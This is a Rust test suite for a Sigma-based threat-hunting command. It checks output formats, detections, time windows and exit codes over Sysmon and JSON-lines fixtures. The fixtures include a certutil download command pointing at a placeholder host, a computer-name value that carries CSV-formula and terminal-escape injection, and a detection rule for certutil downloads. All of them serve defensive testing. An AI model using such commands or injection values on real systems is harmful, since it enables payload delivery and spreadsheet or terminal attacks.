//! `haidang-collector hunt`, the real binary, over a directory holding a Sysmon EVTX log from
//! SigmaHQ's regression data, JSON lines (flat and nested events, one bad line), a corrupt
//! `.evtx` and a file of another type: what each output format says, the summary, the time
//! window and the exit status.

use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// SigmaHQ's "Stop Windows Service Via Sc.EXE" and its regression log (one Sysmon 1 event).
const SC_STOP_RULE: &str = "rules/windows/process_creation/proc_creation_win_sc_stop_service.yml";
const SC_STOP_LOG: &str = "regression_data/rules/windows/process_creation/proc_creation_win_sc_stop_service";
const SC_STOP_ID: &str = "81bcb81b-5b1f-474b-b373-52c871aaa7b1";
const OUR_ID: &str = "7d0c6f0e-3c55-4d47-9a49-2b1b8e0d6f11";

/// A rule of our own that fires on the JSON lines; its logsource matches a flat Sysmon event.
const OUR_RULE: &str = r#"
title: Certutil Download
id: 7d0c6f0e-3c55-4d47-9a49-2b1b8e0d6f11
logsource:
    product: windows
    category: process_creation
detection:
    selection:
        Image|endswith: '\certutil.exe'
        CommandLine|contains: 'urlcache'
    condition: selection
level: high
tags:
    - attack.t1105
"#;

struct Fixture {
    _dir: tempfile::TempDir,
    rules: PathBuf,
    inputs: PathBuf,
    evtx: PathBuf,
}

/// Lines of `events.jsonl`: a flat event that fires [`OUR_RULE`] on line 2 (its computer name
/// carries a terminal escape and starts like a spreadsheet formula), a line that is not JSON,
/// a nested event that fires it on line 5.
fn jsonl() -> String {
    let flat = serde_json::json!({
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "=cmd\u{1b}[2Jpwned",
        "EventRecordID": 77,
        "TimeCreated_SystemTime": "2024-03-01T10:00:00Z",
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe"
    });
    let nested = serde_json::json!({"Event": {
        "System": {
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "pc-02",
            "EventRecordID": 78,
            "TimeCreated": {"#attributes": {"SystemTime": "2024-03-01T11:00:00Z"}}
        },
        "EventData": {"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -urlcache x"}
    }});
    format!("\n{flat}\nthis line is not JSON\n\n{nested}\n")
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().expect("tempdir");
    let rules = dir.path().join("rules");
    fs::create_dir_all(&rules).expect("mkdir");
    fs::write(rules.join("certutil.yml"), OUR_RULE).expect("rule");
    let inputs = dir.path().join("inputs");
    fs::create_dir_all(inputs.join("sub")).expect("mkdir");
    let evtx = inputs.join("sysmon.evtx");
    fs::copy(haidang_testdata::sigma().join(SC_STOP_LOG).join(format!("{SC_STOP_ID}.evtx")), &evtx).expect("copy log");
    fs::write(inputs.join("sub/events.jsonl"), jsonl()).expect("jsonl");
    let mut garbage = b"ElfFile\0".to_vec();
    garbage.extend((0..70_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    fs::write(inputs.join("broken.evtx"), garbage).expect("corrupt evtx");
    fs::write(inputs.join("notes.txt"), "not an event log").expect("other file");
    Fixture { _dir: dir, rules, inputs, evtx }
}

fn hunt(f: &Fixture, args: &[&str], inputs: &[&Path]) -> Output {
    let mut cmd = Command::new(haidang_tests::bin("haidang-collector"));
    cmd.arg("hunt").arg("--rules").arg(&f.rules).arg("--rules").arg(haidang_testdata::sigma().join(SC_STOP_RULE));
    cmd.args(args).args(inputs);
    cmd.output().expect("run haidang-collector hunt")
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn json_lines(out: &Output) -> Vec<Value> {
    let stdout = String::from_utf8(out.stdout.clone()).expect("UTF-8 output");
    stdout.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}"))).collect()
}

#[test]
fn json_output_names_rule_source_time_and_event_and_bad_inputs_set_exit_1() {
    let f = fixture();
    let out = hunt(&f, &["--format", "json"], &[&f.inputs]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    let lines = json_lines(&out);
    assert_eq!(lines.len(), 3, "{lines:#?}");

    // Inputs in directory order: broken.evtx (nothing), sub/events.jsonl, sysmon.evtx.
    let jsonl_path = f.inputs.join("sub/events.jsonl");
    assert_eq!(lines[0]["rule"]["id"], OUR_ID);
    assert_eq!(lines[0]["rule"]["title"], "Certutil Download");
    assert_eq!(lines[0]["rule"]["level"], "high");
    assert_eq!(lines[0]["rule"]["tags"], serde_json::json!(["attack.t1105"]));
    assert_eq!(lines[0]["source"]["path"], jsonl_path.to_str().expect("utf-8"));
    assert_eq!(lines[0]["source"]["record"], 2);
    assert_eq!(lines[0]["time"], "2024-03-01T10:00:00.000000Z");
    assert_eq!(lines[0]["event"]["EventRecordID"], 77);
    assert_eq!(lines[1]["source"]["record"], 5);
    assert_eq!(lines[1]["event"]["Event"]["System"]["Computer"], "pc-02");
    assert_eq!(lines[1]["computer"], "pc-02");

    let sc = &lines[2];
    assert_eq!(sc["rule"]["id"], SC_STOP_ID);
    assert_eq!(sc["rule"]["title"], "Stop Windows Service Via Sc.EXE");
    assert_eq!(sc["source"]["path"], f.evtx.to_str().expect("utf-8"));
    assert_eq!(sc["source"]["record"], sc["event"]["Event"]["System"]["EventRecordID"]);
    assert_eq!(sc["source"]["record"], 256875);
    assert_eq!(sc["time"], "2025-10-22T20:33:27.276702Z");
    assert_eq!(sc["event"]["Event"]["EventData"]["CommandLine"], "sc  stop mpssvc");
    assert_eq!(sc["channel"], "Microsoft-Windows-Sysmon/Operational");
    assert_eq!(sc["event_id"], 1);
    assert!(sc["matches"].as_array().is_some_and(|m| !m.is_empty()), "{sc}");

    // Each bad input is named once; the other file type is not an input.
    let broken = f.inputs.join("broken.evtx");
    assert_eq!(err.lines().filter(|l| l.contains(broken.to_str().expect("utf-8"))).count(), 1, "{err}");
    assert!(
        err.contains(&format!("{}: partly unreadable, 1 problem(s) (first: line 3:", jsonl_path.display())),
        "{err}"
    );
    assert!(!err.contains("notes.txt"), "{err}");
    assert!(err.contains("hunt: 3 files, 2 unreadable or corrupt, "), "{err}");
    assert!(err.contains(", 3 detections in "), "{err}");
    assert!(err.contains("by level: critical 0, high 2, medium 0, low 1, informational 0"), "{err}");
    assert!(err.contains("hunt: rules: 2 detection rules loaded"), "{err}");
}

#[test]
fn csv_and_table_outputs_are_safe_for_spreadsheets_and_terminals() {
    let f = fixture();
    let jsonl = f.inputs.join("sub/events.jsonl");
    let out = hunt(&f, &["--format", "csv"], &[&jsonl, &f.evtx]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let csv = String::from_utf8(out.stdout).expect("UTF-8");
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(rows[0], "time,level,rule_id,rule_title,tags,computer,channel,event_id,path,record");
    assert_eq!(rows.len(), 4, "{csv}");
    assert!(rows[1].starts_with(&format!("2024-03-01T10:00:00.000000Z,high,{OUR_ID},Certutil Download,attack.t1105,")));
    assert!(rows[1].contains(",\"'=cmd\u{1b}[2Jpwned\",Microsoft-Windows-Sysmon/Operational,1,"), "{}", rows[1]);
    assert!(rows[1].ends_with(",2"));
    assert!(rows[3].contains(SC_STOP_ID) && rows[3].ends_with(&format!("{},256875", f.evtx.display())));

    let out = hunt(&f, &["--format", "table"], &[&jsonl]);
    let table = String::from_utf8(out.stdout).expect("UTF-8");
    assert!(table.starts_with("TIME "), "{table}");
    assert!(!table.contains('\u{1b}'), "terminal escape reached the table: {table:?}");
    assert!(table.contains("=cmd\\u{1b}[2J"), "{table}");
    assert!(table.contains(&format!("Certutil Download  [{}#5]", jsonl.display())), "{table}");
    // Table is the default format.
    assert_eq!(hunt(&f, &[], &[&jsonl]).stdout, table.as_bytes());
}

#[test]
fn a_clean_hunt_exits_0_and_the_time_window_filters_events() {
    let f = fixture();
    let out = hunt(&f, &["--format", "json"], &[&f.evtx]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(json_lines(&out).len(), 1);
    assert!(stderr(&out).contains("hunt: 1 files, "), "{}", stderr(&out));

    let out = hunt(&f, &["--format", "json", "--from", "2025-10-22T20:33:27Z", "--to", "2025-10-22"], &[&f.evtx]);
    assert_eq!(out.status.code(), Some(2), "--from after --to is a usage error");

    let window = ["--format", "json", "--from", "2024-03-01T10:30:00Z", "--to", "2024-03-02"];
    let jsonl = f.inputs.join("sub/events.jsonl");
    let out = hunt(&f, &window, &[&f.evtx, &jsonl]);
    let lines = json_lines(&out);
    assert_eq!(lines.len(), 1, "{lines:#?}");
    assert_eq!(lines[0]["source"]["record"], 5);
    assert!(stderr(&out).contains("outside the time window"), "{}", stderr(&out));

    let out = hunt(&f, &["--format", "json", "--from", "2025-10-22"], &[&f.evtx]);
    assert_eq!(json_lines(&out).len(), 1, "the 2025-10-22 event is inside a window from that date");
}

#[test]
fn usage_and_rule_errors_exit_2() {
    let f = fixture();
    let missing = f.rules.join("no-such-dir");
    let out = Command::new(haidang_tests::bin("haidang-collector"))
        .args(["hunt", "--rules"])
        .arg(&missing)
        .arg(&f.evtx)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("rule directory"), "{}", stderr(&out));

    let empty = tempfile::tempdir().expect("tempdir");
    let out = Command::new(haidang_tests::bin("haidang-collector"))
        .args(["hunt", "--rules"])
        .arg(empty.path())
        .arg(&f.evtx)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("no detection rule loaded"), "{}", stderr(&out));

    let out = Command::new(haidang_tests::bin("haidang-collector"))
        .args(["hunt", "--rules"])
        .arg(&f.rules)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2), "no input is a usage error");
    let out = Command::new(haidang_tests::bin("haidang-collector"))
        .args(["hunt", "--rules"])
        .arg(&f.rules)
        .args(["--format", "xml"])
        .arg(&f.evtx)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));

    let help = Command::new(haidang_tests::bin("haidang-collector")).args(["hunt", "--help"]).output().expect("run");
    let help = String::from_utf8_lossy(&help.stdout);
    assert!(help.contains("Exit status: 0 when every input was read"), "{help}");
}

#[test]
fn a_missing_input_is_reported_and_the_rest_are_hunted() {
    let f = fixture();
    let missing = f.inputs.join("gone.evtx");
    let out = hunt(&f, &["--format", "json"], &[&missing, &f.evtx]);
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(json_lines(&out).len(), 1);
    assert!(stderr(&out).contains(&format!("hunt: {}: cannot read", missing.display())), "{}", stderr(&out));
}

#[test]
fn json_lines_can_be_piped_in() {
    use std::io::Write;
    let f = fixture();
    let mut child = Command::new(haidang_tests::bin("haidang-collector"))
        .args(["hunt", "--format", "json", "--rules"])
        .arg(&f.rules)
        .arg("/dev/stdin")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run");
    child.stdin.take().expect("stdin").write_all(jsonl().as_bytes()).expect("write events");
    let out = child.wait_with_output().expect("wait");
    let lines = json_lines(&out);
    assert_eq!(lines.iter().map(|l| l["source"]["record"].as_u64()).collect::<Vec<_>>(), [Some(2), Some(5)]);
    assert_eq!(out.status.code(), Some(1), "the bad line on line 3 is reported: {}", stderr(&out));
}
